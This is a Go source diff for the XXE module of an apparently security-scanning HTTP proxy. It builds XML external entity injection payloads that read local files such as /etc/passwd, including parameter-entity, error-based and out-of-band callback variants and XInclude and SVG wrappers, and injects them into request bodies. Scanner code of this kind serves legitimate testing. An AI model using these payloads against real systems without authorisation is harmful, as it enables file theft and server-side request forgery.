@@ -2,37 +2,121 @@ package xxe
 
 import (
 	"bytes"
-	"io"
-	"net/http"
+	"encoding/xml"
+	"fmt"
+	"maps"
+	"regexp"
+	"slices"
+	"strings"
+
+	"http-proxy/pkg/scanner"
 )
 
-const kVulnerability = `
-<!DOCTYPE foo [
-	<!ELEMENT foo ANY >
-	<!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
-  <foo>&xxe;</foo>`
+// kEntity is the general entity which the payloads declare and reference.
+const kEntity = "xxe"
+
+const kXInclude = `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="%s"/>`
+
+const kSVG = `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [%s]>` +
+	`<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><text x="0" y="20">%s</text></svg>`
 
-var kXMLStart []byte = []byte("<?xml")
+var (
+	kDoctype = regexp.MustCompile(`(?i)<!DOCTYPE\s+[^\s\[>]+[^\[>]*([\[>])`)
+	kProlog  = regexp.MustCompile(`^(?:\xef\xbb\xbf)?\s*<\?xml[^>]*\?>`)
+	kXMLName = regexp.MustCompile(`^[A-Za-z_][A-Za-z0-9_.-]*$`)
+)
+
+// externalEntity declares the entity as the content of a file.
+func externalEntity(file scanner.LocalFile) string {
+	return fmt.Sprintf(`<!ENTITY %s SYSTEM "%s">`, kEntity, file.URL())
+}
 
-func AddVulnerability(req *http.Request) (bool, error) {
-	hadXML := false
-	body, err := io.ReadAll(req.Body)
-	if err != nil {
-		return hadXML, err
+// parameterEntity declares the entity from within a parameter entity, which
+// parsers resolving only parameter entities still expand.
+func parameterEntity(file scanner.LocalFile) string {
+	return fmt.Sprintf(`<!ENTITY %% %sp "<!ENTITY %s SYSTEM '%s'>">%%%sp;`, kEntity, kEntity, file.URL(), kEntity)
+}
+
+// errorEntity makes the parser fail on a path which contains the file, so
+// the file shows up in error messages.
+func errorEntity(file scanner.LocalFile) string {
+	return fmt.Sprintf(`<!ENTITY %% %sf SYSTEM "%s">`+
+		`<!ENTITY %% %se "<!ENTITY &#x25; %sr SYSTEM 'file:///nonexistent/%%%sf;'>">%%%se;%%%sr;`,
+		kEntity, file.URL(), kEntity, kEntity, kEntity, kEntity, kEntity)
+}
+
+// callbackEntity makes the parser fetch url while reading the document type,
+// without the entity being referenced.
+func callbackEntity(url string) string {
+	return fmt.Sprintf(`<!ENTITY %% %so SYSTEM "%s">%%%so;`, kEntity, url, kEntity)
+}
+
+// addDeclarations puts declarations into the internal subset of the
+// document type, adding one if the document has none.
+func addDeclarations(body []byte, declarations string) ([]byte, string) {
+	if loc := kDoctype.FindSubmatchIndex(body); loc != nil {
+		if body[loc[2]] == '[' {
+			return splice(body, loc[3], loc[3], declarations), "existing DOCTYPE"
+		}
+		return splice(body, loc[2], loc[3], "["+declarations+"]>"), "existing DOCTYPE"
+	}
+
+	doctype := fmt.Sprintf("<!DOCTYPE %s [%s]>", rootName(body), declarations)
+	if loc := kProlog.FindIndex(body); loc != nil {
+		return splice(body, loc[1], loc[1], doctype), "XML declaration"
 	}
+	return splice(body, 0, 0, doctype), "no XML declaration"
+}
+
+func splice(body []byte, start, end int, s string) []byte {
+	return slices.Concat(body[:start], []byte(s), body[end:])
+}
 
-	xmlStart := bytes.Index(body, kXMLStart)
+// rootName returns the name of the first element.
+func rootName(body []byte) string {
+	decoder := xml.NewDecoder(bytes.NewReader(body))
+	decoder.Strict = false
 
-	if xmlStart != -1 {
-		hadXML = true
-		idx := xmlStart + bytes.IndexByte(body[xmlStart:], '>')
-		body = bytes.Join([][]byte{body[:idx+1], []byte(kVulnerability)}, []byte{})
+	for {
+		token, err := decoder.RawToken()
+		if err != nil {
+			return "root"
+		}
+		if start, ok := token.(xml.StartElement); ok {
+			if start.Name.Space != "" {
+				return start.Name.Space + ":" + start.Name.Local
+			}
+			return start.Name.Local
+		}
 	}
+}
 
-	req.Body = io.NopCloser(bytes.NewReader(body))
-	return hadXML, nil
+// isSOAP tells whether the root element is a SOAP envelope.
+func isSOAP(body []byte) bool {
+	name := rootName(body)
+	return name == "Envelope" || strings.HasSuffix(name, ":Envelope")
 }
 
-func IsVulnerable(body []byte) bool {
-	return bytes.Contains(body, []byte("root:"))
+// jsonToXML converts a decoded JSON document into elements, replacing every
+// scalar value with leaf.
+func jsonToXML(buf *bytes.Buffer, name string, value interface{}, leaf string) {
+	if !kXMLName.MatchString(name) {
+		name = "item"
+	}
+
+	switch v := value.(type) {
+	case []interface{}:
+		for _, item := range v {
+			jsonToXML(buf, name, item, leaf)
+		}
+		return
+	case map[string]interface{}:
+		buf.WriteString("<" + name + ">")
+		for _, key := range slices.Sorted(maps.Keys(v)) {
+			jsonToXML(buf, key, v[key], leaf)
+		}
+	default:
+		buf.WriteString("<" + name + ">" + leaf)
+	}
+	buf.WriteString("</" + name + ">")
 }